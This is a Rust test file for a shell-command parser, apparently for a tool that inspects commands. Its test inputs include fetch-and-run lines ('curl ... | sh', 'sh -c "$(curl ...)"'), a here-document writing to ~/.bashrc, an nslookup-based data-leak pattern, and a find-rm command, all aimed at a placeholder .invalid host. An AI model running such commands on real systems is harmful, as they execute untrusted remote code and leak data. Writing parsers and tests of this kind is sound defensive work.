//! What is read of shell text.

use super::*;

fn words(text: &str) -> Vec<Vec<String>> {
    parse(text)
        .commands
        .iter()
        .map(|command| command.words.iter().map(|word| word.text.clone()).collect())
        .collect()
}

#[test]
fn quotes_are_taken_away_and_lists_are_split() {
    assert_eq!(
        words("node 'a b.js' && echo \"x y\"; c"),
        [vec!["node", "a b.js"], vec!["echo", "x y"], vec!["c"]]
    );
    assert_eq!(words("cu\"r\"l -s a"), [vec!["curl", "-s", "a"]]);
}

#[test]
fn pipes_and_substitutions_are_seen() {
    let script = parse("curl https://a.invalid/x | sh");
    assert_eq!(script.commands[0].link, Link::Pipe);
    let links = |text: &str| -> Vec<Link> {
        let script = parse(text);
        script.commands.iter().map(|command| command.link).collect()
    };
    assert_eq!(
        links("a && b || c; d & e"),
        [Link::And, Link::Or, Link::Then, Link::Then, Link::Then]
    );
    let tested = |text: &str| parse(text).commands[0].tested;
    assert!(tested("if ! a; then b; fi") && !tested("a; if b; then c; fi"));
    let script = parse("sh -c \"$(curl -s https://a.invalid)\"");
    assert_eq!(
        script.commands[0].words[2].substitutions[0].commands[0].words[0].text,
        "curl"
    );
    let script = parse("bash <(curl -s https://a.invalid)");
    assert!(script.commands[0].words[1].process);
}

#[test]
fn a_here_document_belongs_to_its_command() {
    let script = parse("cat > ~/.bashrc <<EOF\ncurl x\nEOF\necho done");
    assert_eq!(script.commands[0].here.as_deref(), Some("curl x\n"));
    assert_eq!(script.commands[1].words[0].text, "echo");
}

#[test]
fn a_function_has_its_body() {
    let script = parse("f() { nslookup \"$1.a.invalid\"; }\nf x");
    let (name, body) = script.commands[0].function.clone().unwrap_or_default();
    assert_eq!(name, "f");
    assert_eq!(body.commands[0].words[1].variables, ["1"]);
    assert_eq!(script.commands[1].words[0].text, "f");
    assert_eq!(script.commands[1].at, 33);
}

#[test]
fn commands_in_brackets_are_one_command() {
    let script = parse("a || (echo b; exit 1) && c\n{ d; find . -exec rm {} +; } | sh > e");
    let links: Vec<Link> = script.commands.iter().map(|one| one.link).collect();
    assert_eq!(
        links,
        [Link::Or, Link::And, Link::Then, Link::Pipe, Link::Then]
    );
    let group = |number: usize| script.commands[number].group.clone().unwrap_or_default();
    assert!(group(1).subshell && !group(3).subshell);
    assert_eq!(group(1).script.commands.len(), 2);
    assert_eq!(group(1).script.commands[1].words[1].text, "1");
    assert_eq!(group(3).script.commands[1].words[4].text, "{}");
    assert_eq!(script.commands[1].at, 5);
    let closed = parse("if a; then { b; } fi; (c) > d");
    assert_eq!(closed.commands.len(), 3);
    assert_eq!(closed.commands[2].redirects.len(), 1);
}

#[test]
fn a_here_document_of_brackets_is_their_input() {
    let script = parse("(sh <<EOF)\ncurl x\nEOF\na");
    assert_eq!(script.commands[0].here.as_deref(), Some("curl x\n"));
    let inside = parse("{ sh <<EOF\ncurl x\nEOF\n}");
    let group = inside.commands[0].group.clone().unwrap_or_default();
    assert_eq!(group.script.commands[0].here.as_deref(), Some("curl x\n"));
}

#[test]
fn brackets_deeper_than_are_read_are_said() {
    let nested = |levels: usize| format!("{}a{}", "(".repeat(levels), ")".repeat(levels));
    assert!(!parse(&nested(usize::from(GROUPS))).cut);
    assert!(parse(&nested(usize::from(GROUPS) + 1)).cut);
}

#[test]
fn anything_ends() {
    for text in [
        "$(",
        "`",
        "\"",
        "'",
        "<(",
        "<<",
        "${",
        "$((",
        "a\\",
        "((((((((((((((((",
        "<<<",
    ] {
        parse(text);
    }
}

#[test]
fn what_stands_in_for_a_variable_that_is_not_set_is_read() {
    let of = |text: &str| {
        let script = parse(text);
        script.commands[0].words[1].defaults.clone()
    };
    let default = |value: &str| vec![("A".to_owned(), value.to_owned())];
    assert_eq!(of("run ${A:-sh}"), default("sh"));
    assert_eq!(of("run ${A-sh}"), default("sh"));
    assert_eq!(of("run \"${A:='b c'}\""), default("b c"));
    assert_eq!(of("run ${A:-$B}"), Vec::new());
    assert_eq!(of("run ${A%x}"), Vec::new());
}
